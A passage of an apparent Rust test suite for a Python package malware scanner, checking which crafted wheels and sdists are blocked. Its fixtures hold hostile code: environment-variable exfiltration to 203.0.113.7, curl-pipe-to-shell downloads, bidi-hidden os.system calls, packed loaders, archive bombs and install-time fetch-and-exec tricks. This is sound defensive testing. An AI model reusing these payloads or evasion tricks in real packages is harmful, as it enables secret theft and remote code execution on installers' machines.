         "exec(open(os.path.join(here, 'demo', 'version.py')).read())\nlong_description = open('README.md').read()\n", payload_version.clone(), Serve),
        ("the payload in tests/, listed as data only", "tests/version_data.py",
         "package_data = {'tests': ['version_data.py']}\n", payload_version.clone(), Serve),
        ("a clean tools/ helper imported after a sys.path entry", "tools/build_helpers.py",
         "sys.path.insert(0, os.path.join(here, 'tools'))\nimport build_helpers\n", clean_version.clone(), Serve),
        ("a clean VERSION exec'd", "VERSION", "exec(open('VERSION').read())\n", clean_version.clone(), Serve),
        ("the package's __init__ exec'd: its functions run only when called", "demo/__init__.py",
         "ns = {}\nexec(open(os.path.join(here, 'demo', '__init__.py')).read(), ns)\n", format!("__version__ = '1.0'\n{IN_A_FUNCTION}"), Serve),
    ];
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let mut wrong = Vec::new();
    for (case, member, setup_body, content, want) in &cases {
        let setup = format!("{HEAD}{setup_body}setup(name='demo', version='1.0')\n");
        let member_path = format!("demo-1.0/{member}");
        let mut members = vec![
            T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo.\nAuthor-email: a@example.org\nLicense: MIT\n"),
            T::File(b"demo-1.0/README.md", b"# demo\n\nInstall: `curl -sSf https://example.org/install.sh | sh`\n"),
        ];
        if *member != "demo/version.py" {
            members.push(T::File(b"demo-1.0/demo/version.py", clean_version.as_bytes()));
        }
        if *member != "demo/__init__.py" {
            members.push(T::File(b"demo-1.0/demo/__init__.py", b"from .version import __version__\n"));
        }
        members.push(T::File(member_path.as_bytes(), content.as_bytes()));
        for (setup_first, r, got) in scan_with_setup_in_both_orders(&scanner, &members, &setup, case) {
            if got != *want {
                let found: Vec<_> = r
                    .findings
                    .iter()
                    .flat_map(|f| f.evidence.iter().map(move |e| (&f.detector, e.severity, &e.path, e.role)))
                    .collect();
                wrong.push(format!("{case} (setup.py first: {setup_first}): wanted {want:?}, got {got:?}: {found:?}"));
            }
            if *want == Block {
                let reached = r.findings.iter().flat_map(|f| &f.evidence).find(|e| e.path == member_path);
                let snippet = reached.and_then(|e| e.snippet.as_deref()).unwrap_or("");
                if !snippet.contains("run at install time by setup.py (") {
                    wrong.push(format!("{case}: the evidence in {member_path} does not say what runs it: {snippet:?}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Of a member install-time code runs, only the code that runs is judged as install-time code
/// (`reach::live`): a payload in a function blocks when the runner calls it (by each spelling, or
/// through code of the member that runs, or when a name is looked up dynamically), and the same
/// payload in a function nothing calls is judged by the member's path (served: `tools/` is
/// maintainer tooling). setup.py before and after the member in the tar.
#[test]
fn a_reached_member_is_judged_as_install_time_code_where_its_code_runs() {
    use crate::model::Decision::{Block, Serve};
    const HEAD: &str = "import os, sys, subprocess\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\nsys.path.insert(0, os.path.join(here, 'tools'))\n";
    const FETCH: &str = "import os, socket, json\n\ndef fetch():\n    d = json.dumps(dict(os.environ)).encode()\n    s = socket.create_connection(('203.0.113.7', 8080))\n    s.sendall(d)\n    os.system('curl -s http://203.0.113.7/x.sh | sh')\n";
    const BUILD: &str = "import os\nfrom setuptools.command.build_py import build_py\n\nclass BuildPy(build_py):\n    def run(self):\n        self.fetch()\n        build_py.run(self)\n\n    def fetch(self):\n        os.system('curl -s http://203.0.113.7/x.sh | sh')\n";
    const EXEC: &str = "exec(open(os.path.join(here, 'tools', 'helpers.py')).read())\n";
    let with = |tail: &str| format!("{FETCH}{tail}");
    let exec_then_call = format!("{EXEC}fetch()\n");
    let exec_ns = format!("ns = {{}}\n{}ns['fe' + 'tch']()\n", EXEC.replace(".read())", ".read(), ns)"));
    let exec_version = format!("{EXEC}exec(open(os.path.join(here, 'VERSION')).read())\n");
    #[rustfmt::skip]
    let cases: Vec<(&str, &str, String, Option<&str>, crate::model::Decision)> = vec![
        ("imported, called as an attribute", "import helpers\nhelpers.fetch()\n", FETCH.into(), None, Block),
        ("from-imported, then called", "from helpers import fetch\nfetch()\n", FETCH.into(), None, Block),
        ("exec'd into setup.py, then called by name", &exec_then_call, FETCH.into(), None, Block),
        ("a cmdclass class: its methods", "from helpers import BuildPy\nkw = dict(cmdclass={'build_py': BuildPy})\n", BUILD.into(), None, Block),
        ("atexit.register(f) at the member's top level", "import helpers\n", with("import atexit\natexit.register(fetch)\n"), None, Block),
        ("called from the __main__ block of a script a process runs",
         "subprocess.check_call([sys.executable, os.path.join(here, 'tools', 'helpers.py')])\n",
         with("if __name__ == '__main__':\n    fetch()\n"), None, Block),
        ("called from another function that runs", "import helpers\n", with("def main():\n    fetch()\nmain()\n"), None, Block),
        ("a decorator", "import helpers\n", FETCH.replace("json\n\ndef", "json, atexit\n\n@atexit.register\ndef"), None, Block),
        ("a dynamic lookup in the member", "import helpers\n", with("globals()['fe' + 'tch']()\n"), None, Block),
        ("a dynamic lookup in the runner", &exec_ns, FETCH.into(), None, Block),
        ("another member setup.py execs calls it", &exec_version, FETCH.into(),
         Some("__version__ = '1.0'\nfetch()\n"), Block),
        // Served: the same payload in a function nothing that runs refers to.
        ("imported, its function never called", "import helpers\n", FETCH.into(), None, Serve),
        ("exec'd, its function never called", EXEC, FETCH.into(), None, Serve),
        ("a class nothing refers to", "import helpers\n", BUILD.into(), None, Serve),
        ("called only from a function nothing calls", "import helpers\n", with("def main():\n    fetch()\n"), None, Serve),
        ("a script a process runs, its function not called", "subprocess.check_call([sys.executable, os.path.join(here, 'tools', 'helpers.py')])\n", FETCH.into(), None, Serve),
        ("another member setup.py execs only names it", &exec_version, FETCH.into(),
         Some("__version__ = '1.0'\n"), Serve),
    ];
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let mut wrong = Vec::new();
    for (case, setup_body, content, version, want) in &cases {
        let setup = format!("{HEAD}{setup_body}setup(name='demo', version='1.0')\n");
        let mut members = vec![
            T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo.\nAuthor-email: a@example.org\nLicense: MIT\n"),
            T::File(b"demo-1.0/demo/__init__.py", b"__version__ = '1.0'\n"),
        ];
        if let Some(v) = version {
            members.push(T::File(b"demo-1.0/VERSION", v.as_bytes()));
        }
        members.push(T::File(b"demo-1.0/tools/helpers.py", content.as_bytes()));
        for (setup_first, r, got) in scan_with_setup_in_both_orders(&scanner, &members, &setup, case) {
            if got != *want {
                let found: Vec<_> = r
                    .findings
                    .iter()
                    .flat_map(|f| f.evidence.iter().map(move |e| (&f.detector, e.severity, &e.path, e.role, e.line)))
                    .collect();
                wrong.push(format!("{case} (setup.py first: {setup_first}): wanted {want:?}, got {got:?}: {found:?}"));
            }
            let member = r.findings.iter().flat_map(|f| &f.evidence).filter(|e| e.path == "demo-1.0/tools/helpers.py");
            for e in member {
                let snippet = e.snippet.as_deref().unwrap_or("");
                let named = snippet.contains("run at install time by setup.py (");
                // Install-time evidence names its runner; evidence judged by path does not.
                if named != (e.role == crate::model::FileRole::InstallTime) {
                    wrong.push(format!("{case}: {:?} evidence at line {:?}: {snippet:?}", e.role, e.line));
                }
                if *want == Serve && e.role == crate::model::FileRole::InstallTime && e.line.is_some_and(|l| l >= 3) {
                    wrong.push(format!("{case}: line {:?} judged as install-time code", e.line));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Issue 10's anomaly and obfuscation classes (twelfth precision round), through every detector
/// and the shipped policy: judged by what the artifact does with what it looks like. A packer
/// named by its own tooling, a non-UTF-8 name in test material, a bomb inside a test fixture
/// archive are served (annotated); a module that is packed (its loader called, its blob present,
/// a banner over code that runs or decodes code), a non-UTF-8 name where the installer puts
/// code, a bomb in the artifact's own members, and a fixture whose member the package unpacks
/// and runs are blocked.
#[test]
fn anomalies_are_judged_by_what_the_artifact_does_and_their_malicious_variants_block() {
    use crate::model::Decision::{self, Block, Serve};
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let metadata = wheel_metadata("demo", "1.0");
    let wheel = |core: &str| {
        zip_of(&[
            ("demo/__init__.py", b"from . import core\n"),
            ("demo/core.py", core.as_bytes()),
            ("demo-1.0.dist-info/METADATA", &metadata),
        ])
    };
    let sdist = |extra: &[T<'_>]| {
        let mut members = vec![
            T::File(b"demo-1.0/PKG-INFO", &metadata),
            T::File(b"demo-1.0/setup.py", b"from setuptools import setup\nsetup(name='demo', version='1.0')\n"),
            T::File(b"demo-1.0/demo/__init__.py", b"VERSION = '1.0'\n"),
        ];
        members.extend(extra.iter().cloned());
        tar_gz(&members)
    };
    // A zip holding one member whose name is not UTF-8 (legacy code page bytes, no UTF-8 flag).
    let cp437_zip = |name: &str| patch(zip_of(&[(name, b"x\n")]), b"_XX", b"\x91o\x86");
    let zeros = vec![0u8; 80 << 20];
    let zero_zip = zip_of(&[("first.txt", &zeros)]);
    let zero_tar = tar_of(&[T::File(b"zeros", &zeros)]);
    let fixture_run = b"import os, zipfile\nhere = os.path.dirname(__file__)\nexec(zipfile.ZipFile(os.path.join(here, 'tests', 'data.zip')).read('first.txt'))\n";
    const SOUP_TAIL: &str = "IlIlIlIl = 1\nIlIlIlIll = 2\nIlIlIlIlll = 3\nIIllIIll = 4\nIIllIIlll = 5\n";
    let soup = format!("# pyarmor_runtime is not used here\n{}", SOUP_TAIL.repeat(6));
    let cases: Vec<(&str, Vec<u8>, &str, Decision)> = vec![
        // obfuscation.packer: the packer named by its own tooling.
        ("packer: a template of a packed module in a string", wheel("TPL = '''\nfrom $package import __pyarmor__\n__pyarmor__(__name__, $path, $code)\n'''\n"), "whl", Serve),
        ("packer: matching the runtime's file names", wheel("def runtime_files(names):\n    return [x for x in names if x.startswith('pyarmor_runtime')]\n"), "whl", Serve),
        ("packer: importing the runtime's API", wheel("from pytransform import PytransformError, old_init_runtime\n\ndef check():\n    return PytransformError\n"), "whl", Serve),
        ("packer: a banner in a docstring over code that runs nothing hidden", wheel("\"\"\"The data file could be protected by PyArmor.\"\"\"\nimport sys\nprint(sys.argv)\n"), "whl", Serve),
        ("packer: a comment naming the runtime library", wheel("# The corresponding version of pytransform.so\nVERSION = '1.0'\n"), "whl", Serve),
        // obfuscation.packer: a packed module, in any spelling.
        ("packer: pyarmor 8 loader with its blob", wheel("from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00')\n"), "whl", Block),
        ("packer: pyarmor 7 runtime started and loader called", wheel("from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00')\n"), "whl", Block),
        ("packer: super mode", wheel("from pytransform import pyarmor\npyarmor(__name__, __file__, b'\\x0a\\x01', 2)\n"), "whl", Block),
        ("packer: loader reached by getattr, blob read from a data file", wheel("from pytransform import pyarmor_runtime\npyarmor_runtime()\ngetattr(__builtins__, '__pyar' + 'mor__')(__name__, __file__, open('logo.bin', 'rb').read())\n"), "whl", Block),
        ("packer: an encrypted script run by the runtime", wheel("from pytransform import exec_file\nexec_file('core.py.enc')\n"), "whl", Block),
        ("packer: a banner over a marshalled blob that is run", wheel("# Obfuscated with BlankOBF\nimport marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x\\x9c')))\n"), "whl", Block),
        ("packer: identifier soup under a comment naming the runtime", wheel(&soup), "whl", Block),
        // obfuscation.invisible-unicode: bidi controls in a docstring reorder only its own text.
        ("bidi: right-to-left text quoted in a docstring", wheel("def greet():\n    \"\"\"Says \u{2067}\"\u{5e9}\u{5dc}\u{5d5}\u{5dd}\"\u{2069}, or an open \u{202E} override.\n    \"\"\"\n    return 1\n"), "whl", Serve),
        ("bidi: a module docstring with an open isolate", wheel("\"\"\"Notes \u{2066}draft\"\"\"\nVERSION = '1.0'\n"), "whl", Serve),
        // obfuscation.invisible-unicode: where the run reorders code or a value.
        ("bidi: a docstring ending on a line of code", wheel("\"\"\"Helpers \u{202E} \u{2066}\"\"\"; import os; os.system('id')\n"), "whl", Block),
        ("bidi: a stretched string in a comparison", wheel("def ok(access):\n    if access != 'none\u{202E} \u{2066}# admin\u{2069} \u{2066}':\n        return True\n"), "whl", Block),
        ("bidi: one string shown as two list items", wheel("ADMINS = ['alice\u{2067}', 'mallory\u{2069}'\n]\n"), "whl", Block),
        ("bidi: a control in code after a docstring", wheel("\"\"\"Doc.\"\"\"\nx = 1 \u{202E}+ 2\n"), "whl", Block),
        // anomaly.non-utf8-name: test material.
        ("non-UTF-8: a name in the sdist's tests", sdist(&[T::File(b"demo-1.0/tests/data/caf\xe9.txt", b"x\n")]), "tar.gz", Serve),
        ("non-UTF-8: a name in docs", sdist(&[T::File(b"demo-1.0/docs/\xe9t\xe9.rst", b"x\n")]), "tar.gz", Serve),
        ("non-UTF-8: a member of a zip fixture under tests", sdist(&[T::File(b"demo-1.0/tests/zip_cp437_header.zip", &cp437_zip("name_XX.txt"))]), "tar.gz", Serve),
        // anomaly.non-utf8-name: where the installer puts code.
        ("non-UTF-8: a module of the sdist's package", sdist(&[T::File(b"demo-1.0/demo/\xe9t\xe9.py", b"x = 1\n")]), "tar.gz", Block),
        ("non-UTF-8: a module of the wheel", patch(wheel("x = 1\n"), b"demo/core.py", b"demo/c\xffre.py"), "whl", Block),
        ("non-UTF-8: a start-up file at the wheel's root", patch(zip_of(&[("a_XX.pth", b"import demo\n"), ("demo-1.0.dist-info/METADATA", &metadata)]), b"_XX", b"\x91o\x86"), "whl", Block),
        ("non-UTF-8: a member of a zip vendored in the package", sdist(&[T::File(b"demo-1.0/demo/_vendor/lib.zip", &cp437_zip("mod_XX.py"))]), "tar.gz", Block),
        ("non-UTF-8: a file at the sdist's root", sdist(&[T::File(b"demo-1.0/\xff_build.py", b"x = 1\n")]), "tar.gz", Block),
        // anomaly.archive-bomb: inside a fixture archive, nothing pip inflates.
        ("bomb: a member of a zip fixture under tests", sdist(&[T::File(b"demo-1.0/tests/fixtures/zip64.zip", &zero_zip)]), "tar.gz", Serve),
        ("bomb: a member of a zip kept as package data", sdist(&[T::File(b"demo-1.0/demo/data/blob.zip", &zero_zip)]), "tar.gz", Serve),
        // anomaly.archive-bomb: the artifact's own members, or a fixture the package runs.
        ("bomb: a wheel member", zip_of(&[("demo/zeros.bin", &zeros), ("demo-1.0.dist-info/METADATA", &metadata)]), "whl", Block),
        ("bomb: the sdist's own stream", sdist(&[T::File(b"demo-1.0/zeros", &zeros[..3 << 20])]), "tar.gz", Block),
        ("bomb: a tar member of the wheel that is itself the bomb", zip_of(&[("demo/blob.tar", &zero_tar), ("demo-1.0.dist-info/METADATA", &metadata)]), "whl", Block),
        ("bomb: an xz sdist stream", tar_xz(&[T::File(b"demo-1.0/PKG-INFO", &metadata), T::File(b"demo-1.0/zeros", &zeros[..3 << 20])]), "tar.xz", Block),
        ("bomb: a fixture member the package unpacks and runs at import", tar_gz(&[T::File(b"demo-1.0/PKG-INFO", &metadata), T::File(b"demo-1.0/demo/tests/data.zip", &zero_zip), T::File(b"demo-1.0/demo/__init__.py", fixture_run)]), "tar.gz", Block),
    ];
    let mut wrong = Vec::new();
    for (case, bytes, ext, want) in cases {
        let filename = if ext == "whl" { "demo-1.0-py3-none-any.whl".to_string() } else { format!("demo-1.0.{ext}") };
        let r = scan_bytes(&scanner, &filename, &bytes);
        wrong.extend(wrong_decision(case, &r, want));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// What the shipped policy does with `r`, annotate counted as serve, when it is not `want`: the
/// case, both decisions and the findings, for a table's list of wrong cases.
fn wrong_decision(case: &str, r: &ScanReport, want: crate::model::Decision) -> Option<String> {
    use crate::model::Decision::{Annotate, Serve};
    let got = match verdict_for(r).decision {
        Annotate => Serve,
        d => d,
    };
    let found: Vec<_> = r.findings.iter().map(|f| (&f.detector, f.severity)).collect();
    (got != want).then(|| format!("{case}: wanted {want:?}, got {got:?}: {found:?}"))
}

/// A setup.py (or a build helper it runs) that fetches at install time blocks through the
/// shipped policy whatever it does with the bytes: run them (exec, a process, `chmod` + start,
/// `sys.path` + import, aliases and built names), save them as code, or hand unscanned code to
/// the package pip installs — copied, moved or written into the tree, installed straight from
/// the temp dir by `package_dir` or `data_files` (a `.pth`). These are the bypasses that
/// withdrew fp13's "build input" lowering (a fetch only unpacked in a temp dir or parsed was to
/// be Medium): what the build installs from a download is never seen by the scan.
#[test]
fn install_time_downloads_block_wherever_the_fetched_code_goes() {
    use crate::model::Decision::{self, Block};
    let scanner = Scanner::new(Limits::default()).with_threads(1);
    let metadata = wheel_metadata("demo", "1.0");
    let sdist = |setup: &str, extra: &[(&str, &str)]| {
        let mut members = vec![
            T::File(b"demo-1.0/PKG-INFO", &metadata),
            T::File(b"demo-1.0/setup.py", setup.as_bytes()),
            T::File(b"demo-1.0/demo/__init__.py", b"VERSION = '1.0'\n"),
        ];
        let paths: Vec<String> = extra.iter().map(|(p, _)| format!("demo-1.0/{p}")).collect();
        for ((_, text), path) in extra.iter().zip(&paths) {
            members.push(T::File(path.as_bytes(), text.as_bytes()));
        }
        tar_gz(&members)
    };
    const TARBALL: &str = "import hashlib, os, tarfile, tempfile\nfrom urllib.request import urlretrieve\nfrom setuptools import setup, Extension\nURL = 'https://downloads.example.org/libfoo/libfoo-2.1.tar.gz'\nSHA = 'ab' * 32\n\ndef fetch():\n    tmp = tempfile.mkdtemp()\n    path, _ = urlretrieve(URL, os.path.join(tmp, 'libfoo.tar.gz'))\n    with open(path, 'rb') as f:\n        if hashlib.sha256(f.read()).hexdigest() != SHA:\n            raise SystemExit('bad digest')\n    with tarfile.open(path) as t:\n        t.extractall(tmp)\n    return os.path.join(tmp, 'libfoo-2.1')\n\nsrc = fetch()\n";
    const SETUP_EXT: &str =
        "setup(name='demo', version='1.0', ext_modules=[Extension('demo._foo', [os.path.join(src, 'foo.c')])])\n";
    let tarball = |extra: &str| format!("{TARBALL}{extra}{SETUP_EXT}");
    let dictionary = "import os, shutil\nfrom urllib.request import urlretrieve\nfrom zipfile import ZipFile\nfrom setuptools import setup\nurlretrieve('https://dict.example.org/dict-full.zip', 'dict.zip')\nwith ZipFile('dict.zip') as z:\n    z.extractall()\nshutil.move('system_full.dic', os.path.join('demo', 'resources', 'system.dic'))\nsetup(name='demo', version='1.0')\n";
    let helper = "import os, tempfile, zipfile\nimport requests\n\ndef fetch_protos():\n    tmp = os.path.join(tempfile.gettempdir(), 'protos')\n    with open(os.path.join(tmp, 'protos.zip'), 'wb') as zf:\n        zf.write(requests.get('https://codeload.example.org/api/zip/v1').content)\n    with zipfile.ZipFile(os.path.join(tmp, 'protos.zip')) as z:\n        z.extractall(tmp)\n";
    let in_tree = helper.replace("z.extractall(tmp)", "z.extractall('proto')");
    let helper_setup = "from setuptools import setup\nimport sys\nsys.path.insert(0, 'tools')\nfrom build_protos import fetch_protos\nfetch_protos()\nsetup(name='demo', version='1.0')\n";
    let tarball_setup = |extra: &str| format!("{TARBALL}{extra}");
    let cases: Vec<(&str, Vec<u8>, Decision)> = vec![
        // The unpacked code reaches the installed package without passing through the scan.
        ("the unpacked tree copied into the package", sdist(&tarball_setup("import shutil\nshutil.copytree(src, os.path.join('demo', 'vendored'))\nsetup(name='demo', version='1.0', packages=['demo', 'demo.vendored'])\n"), &[]), Block),
        ("the unpacked tree installed from the temp dir by package_dir", sdist(&tarball_setup("setup(name='demo', version='1.0', packages=['demo', 'foo'], package_dir={'foo': src})\n"), &[]), Block),
        ("an unpacked module moved into the package", sdist(&tarball_setup("os.rename(os.path.join(src, 'foo.py'), os.path.join('demo', 'foo.py'))\nsetup(name='demo', version='1.0', packages=['demo'])\n"), &[]), Block),
        ("an unpacked .pth installed into site-packages by data_files", sdist(&tarball_setup("setup(name='demo', version='1.0', packages=['demo'], data_files=[('lib/python3/site-packages', [os.path.join(src, 'evil.pth')])])\n"), &[]), Block),
        ("a fetched text written as a module of the package", sdist("import json, os\nfrom pathlib import Path\nfrom urllib.request import urlopen\nfrom setuptools import setup\ncfg = json.loads(open('cfg.json').read())\nPath('demo/_gen.py').write_text(urlopen('https://data.example.org/gen').read().decode())\nsetup(name='demo', version='1.0', packages=['demo'])\n", &[]), Block),
        // Unpacked into the tree, where another member could run what it holds.
        ("a dictionary zip unpacked into the tree", sdist(dictionary, &[]), Block),
        ("a build helper unpacks protos into the tree", sdist(helper_setup, &[("tools/build_protos.py", &in_tree)]), Block),
        // The same fetch with anything that can run what it fetched.
        ("the unpacked tree's script run by exec", sdist(&tarball("exec(open(os.path.join(src, 'boot.py')).read())\n"), &[]), Block),
        ("the unpacked tree's configure run by a process", sdist(&tarball("import subprocess\nsubprocess.call(['sh', os.path.join(src, 'configure')])\n"), &[]), Block),
        ("the download made executable and started", sdist(&tarball("os.chmod(os.path.join(src, 'foo'), 0o755)\nos.startfile(os.path.join(src, 'foo'))\n"), &[]), Block),
        ("the unpacked tree put on sys.path and imported", sdist(&tarball("import sys\nsys.path.insert(0, src)\nimport foo_boot\n"), &[]), Block),
        ("the unpacked module imported by a built name", sdist(&tarball("mod = __import__('foo' + '_boot')\n"), &[]), Block),
        ("os.system reached through getattr of a built name", sdist(&tarball("run = getattr(__import__('o' + 's'), 'sys' + 'tem')\nrun(os.path.join(src, 'foo'))\n"), &[]), Block),
        ("exec under another name", sdist(&tarball("e = exec\ne(open(os.path.join(src, 'boot.py')).read())\n"), &[]), Block),
        ("system imported under another name", sdist(&tarball("from os import system as s\ns(os.path.join(src, 'foo'))\n"), &[]), Block),
        ("the download saved as a start-up .pth", sdist("import json, site, os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\nurlretrieve('https://cdn.example.net/a', os.path.join(site.getsitepackages()[0], 'demo-init.pth'))\njson.dumps({})\nsetup(name='demo', version='1.0')\n", &[]), Block),
        ("the download saved as a module of the package through a name", sdist("import json, os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\nDST = os.path.join('demo', '_boot.py')\nurlretrieve('https://cdn.example.net/a', DST)\njson.dumps({})\nsetup(name='demo', version='1.0')\n", &[]), Block),
        ("the build helper runs what it unpacked", sdist(helper_setup, &[("tools/build_protos.py", &format!("{helper}    import subprocess\n    subprocess.check_call([os.path.join(tmp, 'install.sh')])\n"))]), Block),
        ("setup.py execs a file its helper unpacked in the temp dir", sdist(&helper_setup.replace("fetch_protos()\n", "fetch_protos()\nimport os, tempfile\nexec(open(os.path.join(tempfile.gettempdir(), 'protos', 'boot.py')).read())\n"), &[("tools/build_protos.py", helper)]), Block),
        ("the download saved without a name a reader can judge", sdist("import json, os\nfrom urllib.request import urlretrieve\nfrom setuptools import setup\nurlretrieve('https://cdn.example.net/a', os.path.join('demo', 'LIST'))\njson.dumps({})\nsetup(name='demo', version='1.0')\n", &[]), Block),
    ];
    let mut wrong = Vec::new();
    for (case, bytes, want) in cases {
        let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &bytes);
        wrong.extend(wrong_decision(case, &r, want));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

// ---- the time limit between detectors on one member ----

static LINGER_A: DetectorMeta = DetectorMeta {
    id: "execution.test-linger-a",
    revision: 1,
    title: "Lingers on a member.",
    category: Category::Execution,
    severity: Severity::Low,
    description: "Test detector: takes 1.2 s on a member that says `linger`, as a super-linear detector would.",
};
static LINGER_B: DetectorMeta = DetectorMeta { id: "execution.test-linger-b", ..LINGER_A };

/// Takes 1.2 s on a member holding `linger`, then reports it at line 1.
struct Lingering(&'static DetectorMeta);

impl Detector for Lingering {
    fn meta(&self) -> &'static DetectorMeta {
        self.0
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&["linger"])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        std::thread::sleep(std::time::Duration::from_millis(1200));
        let evidence = Evidence {
            path: file.path.into(),
            line: Some(1),
            column: Some(1),
            snippet: Some("linger".into()),
            indicator: None,
            role: file.role,
            severity: None,
        };
        hits.push(self.0, Hit { severity: None, evidence });
    }
}

/// The walk checks `max_scan_seconds` between members; a member that is slow to judge (here two
/// detectors of 1.2 s each on the last member, where the walk's check never comes again) is cut
/// between its detectors once the time is up: the scan ends about one detector's run past the
/// limit, not two, says which member was cut and names the key, and is marked timed out (so the
/// gate fails closed and does not keep it). With time left, both detectors run and nothing is said.
#[test]
fn the_time_limit_cuts_a_slow_member_between_its_detectors() {
    let bytes = zip_of(&[("demo/__init__.py", b"x = 1\n"), ("demo/slow.py", b"linger = 1\n")]);
    // (case, max_scan_seconds, detectors whose hit is kept, cut, most seconds the scan may take)
    let cases = [
        ("time left for both detectors", 30, &["execution.test-linger-a", "execution.test-linger-b"][..], false, 30.0),
        ("the time is up after the first detector", 1, &["execution.test-linger-a"][..], true, 2.2),
    ];
    for (case, secs, kept, cut, most) in cases {
        let detectors: Vec<Box<dyn Detector>> = vec![Box::new(Lingering(&LINGER_A)), Box::new(Lingering(&LINGER_B))];
        let scanner = Scanner::with_detectors(Limits { max_scan_seconds: secs, ..Limits::default() }, detectors);
        let started = std::time::Instant::now();
        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
        let took = started.elapsed().as_secs_f64();
        assert!(took < most, "{case}: the scan took {took:.1} s, want under {most} s");
        let found: Vec<&str> =
            r.findings.iter().map(|f| f.detector.as_str()).filter(|d| d.starts_with("execution.test-linger")).collect();
        assert_eq!(found, kept, "{case}: detectors that ran");
        assert_eq!(r.stats.timed_out, cut, "{case}: marked timed out");
        assert_eq!(
            paths(&r, "anomaly.limit-exceeded"),
            if cut { vec!["demo/slow.py".to_string()] } else { vec![] },
            "{case}"
        );
        let reason = r.incomplete_reason();
        assert_eq!(reason.as_deref().is_some_and(|w| w.contains("max_scan_seconds")), cut, "{case}: {reason:?}");
    }
}
